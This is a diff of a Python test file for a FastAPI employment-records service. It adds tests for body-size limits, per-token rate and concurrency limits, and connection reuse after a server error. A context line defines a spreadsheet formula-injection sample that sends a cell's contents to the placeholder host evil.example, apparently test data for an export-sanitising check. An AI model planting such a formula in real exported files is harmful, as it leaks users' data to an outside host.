@@ -5,21 +5,35 @@ dates, per-employer pseudonyms."""
 
 from __future__ import annotations
 
+import asyncio
 import csv
+import http.client
 import io
+import json
+import socket
+import threading
+import time
+from collections.abc import Iterator
 from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
 
+import httpx
 import pytest
+import sqlalchemy as sa
+import uvicorn
 from fastapi.testclient import TestClient
 from sqlmodel import Session, select
 
+from service.api import limits
 from service.api.app import create_app
+from service.config import Settings
 from service.reports import quota as reports
 from service.reports import render
 from service.runtime import Runtime
-from service.store import tokens
+from service.store import db, tokens
 from service.store.imports import import_records
 from service.store.tables import ApiToken
+from tests.dbutil import scratch_engine
 from tests.factories import bin_number, vacancy
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -261,3 +275,182 @@ def test_security_headers(client: TestClient, session: Session) -> None:
     schema = client.get("/api/v1/openapi.json")
     assert schema.status_code == 200
     assert "content-security-policy" not in schema.headers
+
+
+# -- body limits (finding 8) -----------------------------------------------------------------
+
+
+@pytest.fixture
+def tight(tmp_path: Path, connection: sa.Connection) -> Runtime:
+    """A runtime with small limits: 4 KB for JSON, 16 KB for imports, 3 requests a minute."""
+    settings = Settings(
+        home=tmp_path, secret_key="t" * 32, lang="en", body_limit=4096,
+        import_body_limit=16384, token_rate_per_minute=3,
+    )  # fmt: skip
+    return Runtime(settings, connection, _ready=True)
+
+
+def _event(n: int) -> dict[str, object]:
+    return {"person_id": f"P{n:05d}", "item_kind": "vacancy", "item_id": "V00001",
+            "event": "referred", "date": "2026-01-05"}  # fmt: skip
+
+
+def test_a_body_over_the_limit_is_413_before_it_is_read(session: Session, runtime: Runtime) -> None:
+    client = TestClient(create_app(runtime))
+    secret = tokens.create(session, role="officer")[0]
+    big = json.dumps([_event(n % 99999) for n in range(12000)]).encode()
+    assert len(big) > 1024 * 1024
+    for lang, word in (("en", "bytes"), ("ru", "байт"), ("kk", "байт")):
+        answer = client.post(
+            "/api/v1/outcomes",
+            content=big,
+            headers={**_auth(secret, lang), "Content-Type": "application/json"},
+        )
+        assert answer.status_code == 413
+        assert answer.json()["error"]["code"] == "body_too_large"
+        assert "1048576" in answer.json()["error"]["message"]
+        assert word in answer.json()["error"]["message"]
+
+
+def test_a_chunked_body_is_counted_as_it_comes(session: Session, tight: Runtime) -> None:
+    client = TestClient(create_app(tight))
+    secret = tokens.create(session, role="admin")[0]
+
+    def chunks(total: int) -> Iterator[bytes]:
+        yield b"["
+        for n in range(total):
+            yield (b"," if n else b"") + json.dumps(_event(n)).encode()
+        yield b"]"
+
+    headers = {**_auth(secret), "Content-Type": "application/json"}
+    answer = client.post("/api/v1/outcomes", content=chunks(200), headers=headers)
+    assert answer.status_code == 413, answer.text
+    assert answer.json()["error"]["code"] == "body_too_large"
+    assert "4096" in answer.json()["error"]["message"]
+    # a small one passes the limit (and is then judged on its content)
+    small = client.post("/api/v1/outcomes", content=chunks(1), headers=headers)
+    assert small.status_code != 413
+
+
+def test_imports_take_a_larger_body(session: Session, tight: Runtime) -> None:
+    client = TestClient(create_app(tight))
+    secret = tokens.create(session, role="admin")[0]
+    rows = "\n".join(["person_id,item_kind,item_id,event,date"] + [
+        f"P{n:05d},vacancy,V00001,referred,2026-01-05" for n in range(200)
+    ]).encode()  # fmt: skip
+    assert 4096 < len(rows) < 16384
+    headers = {**_auth(secret), "Content-Type": "text/csv"}
+    fits = client.post("/api/v1/imports/outcomes?check=true", content=rows, headers=headers)
+    assert fits.status_code != 413
+    over = client.post("/api/v1/imports/outcomes?check=true", content=rows * 3, headers=headers)
+    assert over.status_code == 413
+    assert "16384" in over.json()["error"]["message"]
+
+
+# -- per-token rate and concurrency (finding 2) ------------------------------------------------
+
+
+def test_a_token_over_its_rate_gets_429_and_others_do_not(session: Session, tight: Runtime) -> None:
+    client = TestClient(create_app(tight))
+    flooder = tokens.create(session, role="officer")[0]
+    other = tokens.create(session, role="officer")[0]
+    codes = [client.get("/api/v1/tokens", headers=_auth(flooder)).status_code for _ in range(3)]
+    assert 429 not in codes
+    for lang in ("ru", "kk", "en"):
+        refused = client.get("/api/v1/persons/P00001", headers=_auth(flooder, lang))
+        assert refused.status_code == 429
+        assert refused.json()["error"]["code"] == "rate_limited"
+        assert 1 <= int(refused.headers["retry-after"]) <= 60
+        assert refused.headers["retry-after"] in refused.json()["error"]["message"]
+    assert client.get("/api/v1/persons/P00001", headers=_auth(other)).status_code != 429
+
+
+def test_a_token_with_too_many_requests_at_once_gets_429() -> None:
+    gate = asyncio.Event()
+
+    async def slow(scope: dict, receive: object, send: object) -> None:  # type: ignore[type-arg]
+        await gate.wait()
+        await send({"type": "http.response.start", "status": 200, "headers": []})  # type: ignore[operator]
+        await send({"type": "http.response.body", "body": b"{}"})  # type: ignore[operator]
+
+    app = limits.TokenLimits(slow, limits.Limits(concurrency=2, per_minute=1000))
+
+    async def scenario() -> list[int]:
+        transport = httpx.ASGITransport(app=app)
+        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
+            first = [asyncio.create_task(client.get("/x", headers=_auth("mt_a"))) for _ in range(2)]
+            await asyncio.sleep(0.05)
+            third = await client.get("/x", headers=_auth("mt_a"))
+            assert third.status_code == 429
+            assert third.headers["retry-after"] == "1"
+            assert third.json()["error"]["code"] == "too_many_at_once"
+            other = asyncio.create_task(client.get("/x", headers=_auth("mt_b")))
+            await asyncio.sleep(0.05)
+            gate.set()
+            done = [r.status_code for r in await asyncio.gather(*first, other)]
+            after = await client.get("/x", headers=_auth("mt_a"))
+            return [*done, after.status_code]
+
+    assert asyncio.run(scenario()) == [200, 200, 200, 200]
+
+
+# -- a 500 is one failure (finding 9) ------------------------------------------------------------
+
+
+def _free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return int(probe.getsockname()[1])
+
+
+@pytest.fixture
+def served(tmp_path: Path) -> Iterator[tuple[int, str]]:
+    """A real uvicorn server on a database of its own, and an admin token."""
+    with scratch_engine(tmp_path) as engine:
+        db.upgrade(engine)
+        rt = Runtime(Settings(home=tmp_path, secret_key="s" * 32, lang="en"), engine, _ready=True)
+        with rt.writing() as session:
+            secret = tokens.create(session, role="admin")[0]
+        port = _free_port()
+        server = uvicorn.Server(
+            uvicorn.Config(create_app(rt), host="127.0.0.1", port=port, log_level="critical")
+        )
+        thread = threading.Thread(target=server.run, daemon=True)
+        thread.start()
+        deadline = time.monotonic() + 20
+        while not server.started and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert server.started
+        try:
+            yield port, secret
+        finally:
+            server.should_exit = True
+            thread.join(10)
+
+
+def test_a_500_leaves_the_keep_alive_connection_usable(
+    served: tuple[int, str], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    from service.usecases import admin
+
+    def broken(*args: object, **kwargs: object) -> None:
+        raise RuntimeError("a bug")
+
+    monkeypatch.setattr(admin, "list_tokens", broken)
+    port, secret = served
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+    headers = {"Authorization": f"Bearer {secret}", "Accept-Language": "en"}
+    connection.request("GET", "/api/v1/tokens", headers=headers)
+    failed = connection.getresponse()
+    body = json.loads(failed.read())
+    assert failed.status == 500
+    assert body["error"]["code"] == "internal"
+    assert failed.getheader("connection", "").lower() != "close"
+    socket_before = connection.sock
+    connection.request("GET", "/api/v1/health", headers=headers)
+    fine = connection.getresponse()
+    assert fine.status == 200
+    assert json.loads(fine.read())["status"] == "ok"
+    assert connection.sock is socket_before  # the same connection, not a new one
+    connection.close()
+    assert any("a bug" in (r.exc_text or "") for r in caplog.records if r.exc_info or r.exc_text)
